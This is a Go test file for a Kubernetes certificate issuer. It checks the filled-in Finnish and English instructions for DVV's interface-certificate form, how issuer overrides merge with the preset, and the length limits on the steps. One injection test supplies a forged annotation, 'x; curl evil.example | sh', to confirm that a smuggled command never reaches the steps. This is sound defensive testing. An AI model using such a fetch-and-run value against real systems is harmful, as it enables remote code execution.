package instructions_test

import (
	"slices"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/varmenne/varmenne-issuer/api/v1alpha1"
	"github.com/varmenne/varmenne-issuer/internal/manual/instructions"
)

var dvv = v1alpha1.ManualIssuerSpec{Preset: v1alpha1.ManualPresetDVVInterfaceCertificate}

func order() *v1alpha1.ManualOrder {
	return &v1alpha1.ManualOrder{
		ObjectMeta: metav1.ObjectMeta{
			Namespace: "stamping", Name: "manual-1",
			Annotations: map[string]string{"cert-manager.io/certificate-name": "rajapinta"},
		},
		Spec: v1alpha1.ManualOrderSpec{IssuerRef: v1alpha1.ManualIssuerReference{Name: "dvv"}},
	}
}

// headings of DVV's form, in the order in which its own instructions for the stamping service, chapter 3.1 (seed 000),
// have them.
var headings = []string{
	"Leimapalvelun rajapintavarmenteen hakeminen", "Kirjaudu sisään tunnistautumalla", "Valmiit asiat",
	"Tilaa leimapalvelun rajapintavarmenne", "Organisaation tiedot", "Hakemuksen tiedot", "Tekninen yhteyshenkilö",
	"Lähetä DVV:lle", "Tilaukset", "Näytä varmenteet",
}

// TestTheStepsOfDVVsFormAreFilledIn in both languages, by the headings of the form, with every command.
func TestTheStepsOfDVVsFormAreFilledIn(t *testing.T) {
	filled := instructions.Fill(instructions.Of(&dvv), order())
	if len(filled) != 2 || filled[0].Language != "en" || filled[1].Language != "fi" {
		t.Fatalf("the languages are %+v", filled)
	}
	for _, in := range filled {
		if strings.Contains(in.Steps, "{{") {
			t.Errorf("%s: a placeholder is left: %s", in.Language, in.Steps)
		}
		rest := in.Steps
		for _, heading := range headings {
			_, after, found := strings.Cut(strings.Join(strings.Fields(rest), " "), heading)
			if rest = after; !found {
				t.Errorf("%s: %q is missing, or not in the form's order", in.Language, heading)
				break
			}
		}
		for _, text := range append([]string{
			"# rajapinta: ", "`manual-1.csr`", "vptuotanto@dvv.fi", "https://asiointi.dvv.fi/", "*Ei*", "*Kyllä*",
			"*voimaantulopäivä*", "*leimaustavat*", "*tekninen varayhteyshenkilö*",
		}, commands()...) {
			if !strings.Contains(in.Steps, text) {
				t.Errorf("%s: it does not say %q", in.Language, text)
			}
		}
	}
}

func commands() []string {
	return []string{
		"\nkubectl get manualorder -n stamping manual-1 -o jsonpath='{.spec.request}' | base64 -d > manual-1.csr\n",
		"\nkubectl patch manualorder -n stamping manual-1 --type merge -p " +
			"'{\"spec\":{\"application\":{\"reference\":\"…\"}}}'\n",
		"\nkubectl create configmap -n stamping manual-1 --from-file=certificate=FILE\n" +
			"kubectl patch manualorder -n stamping manual-1 --type merge -p '{\"spec\":{\"certificate\":null," +
			"\"certificateFrom\":{\"secretKeyRef\":null," +
			"\"configMapKeyRef\":{\"name\":\"manual-1\",\"key\":\"certificate\"}}}}'\n",
	}
}

func TestAnIssuerOverridesThePresetFieldByField(t *testing.T) {
	preset := instructions.Of(&dvv)
	for claim, c := range map[string]struct {
		own  v1alpha1.ManualInstructions
		want v1alpha1.ManualInstructions
	}{
		"the contact alone": {
			v1alpha1.ManualInstructions{Language: "fi", Contact: "tuki@example.fi"},
			v1alpha1.ManualInstructions{
				Language: "fi", Contact: "tuki@example.fi", URL: preset[1].URL, Steps: preset[1].Steps,
			},
		},
		"the steps alone": {
			v1alpha1.ManualInstructions{Language: "en", Steps: "Ask Maija."},
			v1alpha1.ManualInstructions{
				Language: "en", Steps: "Ask Maija.", URL: preset[0].URL, Contact: preset[0].Contact,
			},
		},
		"another language": {
			v1alpha1.ManualInstructions{Language: "sv", Steps: "Fråga Maija."},
			v1alpha1.ManualInstructions{Language: "sv", Steps: "Fråga Maija."},
		},
	} {
		t.Run(claim, func(t *testing.T) {
			spec := dvv
			spec.Instructions = []v1alpha1.ManualInstructions{c.own}
			merged := instructions.Of(&spec)
			languages := map[string]bool{"en": true, "fi": true, c.own.Language: true}
			if !slices.Contains(merged, c.want) || len(merged) != len(languages) {
				t.Errorf("they are %+v", merged)
			}
		})
	}
}

// TestNobodyWritesACommandIntoTheSteps with an annotation, of which no name has been checked.
func TestNobodyWritesACommandIntoTheSteps(t *testing.T) {
	forged := order()
	forged.Annotations["cert-manager.io/certificate-name"] = "x; curl evil.example | sh"
	in := []v1alpha1.ManualInstructions{{Language: "en", Steps: "kubectl get certificate {{certificate}}"}}
	if steps := instructions.Fill(in, forged)[0].Steps; steps != "kubectl get certificate manual-1" {
		t.Errorf("the steps are %q", steps)
	}
}

// TestFilledInStepsStayBounded, whatever an issuer repeats in them, and are cut at the end of a character.
func TestFilledInStepsStayBounded(t *testing.T) {
	long := v1alpha1.ManualInstructions{Language: "fi", Steps: "ä" + strings.Repeat("{{noteApplication}}ä", 700)}
	steps := instructions.Fill([]v1alpha1.ManualInstructions{long}, order())[0].Steps
	if len(steps) > 32768 || !strings.HasSuffix(steps, "…") || strings.ToValidUTF8(steps, "?") != steps {
		t.Errorf("they have %d bytes and end with %q", len(steps), steps[len(steps)-10:])
	}
}
